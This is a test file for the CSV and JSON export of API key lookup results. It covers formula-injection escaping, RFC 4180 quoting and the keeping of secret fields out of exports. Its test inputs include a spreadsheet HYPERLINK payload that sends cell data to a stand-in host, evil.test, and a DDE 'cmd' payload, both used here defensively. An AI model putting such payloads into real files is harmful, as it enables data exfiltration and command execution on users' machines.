import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { ApiKey } from '../api-key';
import { exportCsv, exportFileName, exportJson, type RunMeta } from './export';
import type { BulkResult, BulkRow } from './row';
import type { KeyHash } from '../hash-input';

const NOW = new Date('2026-11-26T14:05:00Z');
const META: RunMeta = { ranAt: '2026-11-26T14:00:00.000Z', accounts: ['Production', 'Staging, EU'] };
const H1 = 'f01d5260c1b7a3e94c2f0d8b6a5e4c3b2a1908f7e6d5c4b3a29180f7e6d92ce9' as KeyHash;
const H2 = '0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9' as KeyHash;

const KEY: ApiKey = {
  hash: H1,
  name: 'Backend',
  label: 'sk-mg-v1-f01…ce9',
  disabled: false,
  expires_at: null,
  created_at: '2026-01-01T00:00:00Z',
  updated_at: null,
  creator_user_id: 'user_1',
  workspace_id: 'ws_1',
  limit: 100,
  limit_remaining: -5,
  limit_reset: 'monthly',
  include_byok_in_limit: false,
  usage: 105,
  usage_daily: 1,
  usage_weekly: 5,
  usage_monthly: 60.5,
  byok_usage: 0,
  byok_usage_daily: 0,
  byok_usage_weekly: 0,
  byok_usage_monthly: 0,
};
const found = (key: Partial<ApiKey> = {}): BulkResult => ({
  kind: 'found',
  key: { ...KEY, ...key },
  fetchedAt: '2026-11-26T14:00:01Z',
});
const row = (result: BulkResult, hash = H1, account: string | null = 'Production'): BulkRow => ({
  hash,
  account,
  result,
});

/** The CSV read back as a spreadsheet would: BOM checked and dropped, one object per row. */
function readCsv(csv: string): Record<string, string>[] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const parsed = Papa.parse<Record<string, string>>(csv.slice(1), { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

describe('exportCsv', () => {
  it('writes every field of a found key, the run time and the accounts', () => {
    const [cells] = readCsv(exportCsv([row(found())], META, NOW));
    expect(cells).toEqual({
      run_at: '2026-11-26T14:00:00.000Z',
      accounts_asked: 'Production; Staging, EU',
      hash: H1,
      account: 'Production',
      result: 'found',
      status: 'Active, No expiry, Limit reached',
      error: '',
      fetched_at: '2026-11-26T14:00:01Z',
      name: 'Backend',
      label: 'sk-mg-v1-f01…ce9',
      disabled: 'false',
      expires_at: '',
      created_at: '2026-01-01T00:00:00Z',
      updated_at: '',
      creator_user_id: 'user_1',
      workspace_id: 'ws_1',
      limit: '100',
      // A number stays a number a spreadsheet can add up, even when negative.
      limit_remaining: '-5',
      limit_reset: 'monthly',
      include_byok_in_limit: 'false',
      usage: '105',
      usage_daily: '1',
      usage_weekly: '5',
      usage_monthly: '60.5',
      byok_usage: '0',
      byok_usage_daily: '0',
      byok_usage_weekly: '0',
      byok_usage_monthly: '0',
    });
  });

  it.each<[string, BulkResult, Record<string, string>]>([
    ['not found', { kind: 'not_found' }, { result: 'not_found', status: 'Not found', error: '', name: '' }],
    [
      'failed',
      { kind: 'error', error: { kind: 'server_error', status: 503 } },
      {
        result: 'error',
        status: 'ModelGates server error',
        error: 'ModelGates server error: The API answered 503. Try again in a minute.',
        name: '',
      },
    ],
    ['not asked', { kind: 'pending' }, { result: 'pending', status: 'Not looked up', error: '', name: '' }],
  ])('says what became of a row %s', (_, result, expected) => {
    const [cells] = readCsv(exportCsv([row(result, H2, null)], META, NOW));
    expect(cells).toMatchObject({ hash: H2, account: '', fetched_at: '', limit: '', ...expected });
  });

  it.each<[string, string]>([
    ['=', '=HYPERLINK("https://evil.test/?"&A1,"Click")'],
    ['+', '+1+cmd|" /C calc"!A0'],
    ['-', '-2+3'],
    ['@', '@SUM(A1:A9)'],
    ['a tab', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
    ['= with a line break after it', '=1+1\nsecond line'],
  ])('cannot run a name that starts with %s as a formula', (_, name) => {
    const csv = exportCsv([row(found({ name }))], META, NOW);
    const [cells] = readCsv(csv);
    // The leading quote makes a spreadsheet show the text as text.
    expect(cells?.name).toBe(`'${name}`);
    expect(csv).toContain(`"'${name.replace(/"/g, '""')}"`);
  });

  it.each<[string]>([['Prod = main'], ['a-b'], ['name@example.test'], ['Älpha 🔑']])('leaves %j as it is', (name) => {
    expect(readCsv(exportCsv([row(found({ name }))], META, NOW))[0]?.name).toBe(name);
  });

  it('follows RFC 4180: quotes, commas and line breaks inside quotes, CRLF between records', () => {
    const name = 'He said "hi", then\r\nleft';
    const csv = exportCsv([row(found({ name })), row({ kind: 'not_found' }, H2)], META, NOW);
    expect(csv).toContain('"He said ""hi"", then\r\nleft"');
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/"[^"]*(?:""[^"]*)*"/g, '').match(/\n/g)).toHaveLength(3);
    expect(csv.replace(/"[^"]*(?:""[^"]*)*"/g, '').match(/\r\n/g)).toHaveLength(3);
    expect(readCsv(csv).map((cells) => cells.name)).toEqual([name, '']);
  });

  it('writes only its columns: nothing else a row or a key carries', () => {
    const smuggled = {
      ...row(found({ ...KEY, managementKey: 'sk-mg-v1-secret' } as ApiKey)),
      managementKey: 'sk-mg-v1-secret',
    } as BulkRow;
    const csv = exportCsv([smuggled], META, NOW);
    const json = exportJson([smuggled], META, NOW);
    expect(csv).not.toContain('secret');
    expect(json).not.toContain('secret');
    expect(json).not.toContain('managementKey');
  });

  it('is just the header for no rows', () => {
    const csv = exportCsv([], META, NOW);
    expect(csv).toMatch(/^\uFEFFrun_at,accounts_asked,hash,account,result,status,error,fetched_at,name,label,.*\r\n$/);
  });
});

describe('exportJson', () => {
  it('holds the run time and accounts once, then every field of every row; null stays null', () => {
    const json = exportJson([row(found({ expires_at: null })), row({ kind: 'not_found' }, H2, null)], META, NOW);
    const parsed = JSON.parse(json) as { ranAt: string; accounts: string[]; rows: Record<string, unknown>[] };
    expect(parsed.ranAt).toBe(META.ranAt);
    expect(parsed.accounts).toEqual(['Production', 'Staging, EU']);
    expect(parsed.rows[0]).toMatchObject({ hash: H1, name: 'Backend', expires_at: null, limit_remaining: -5 });
    expect(parsed.rows[0]).not.toHaveProperty('run_at');
    expect(parsed.rows[1]).toMatchObject({ hash: H2, account: null, result: 'not_found', status: 'Not found' });
    expect(Object.keys(parsed.rows[0] ?? {})).toHaveLength(26);
  });

  it('keeps a formula-like name exactly as the API gave it: JSON is not opened by spreadsheets', () => {
    const parsed = JSON.parse(exportJson([row(found({ name: '=1+1' }))], META, NOW)) as { rows: { name: string }[] };
    expect(parsed.rows[0]?.name).toBe('=1+1');
  });
});

describe('exportFileName', () => {
  it.each<[string, 'csv' | 'json', string]>([
    ['2026-11-26T14:00:00.000Z', 'csv', 'modelgates-keys-2026-11-26T14-00-00Z.csv'],
    ['2026-11-26T14:00:00Z', 'json', 'modelgates-keys-2026-11-26T14-00-00Z.json'],
  ])('%s as %s is %s', (ranAt, extension, expected) => {
    expect(exportFileName({ ranAt, accounts: [] }, extension)).toBe(expected);
  });
});
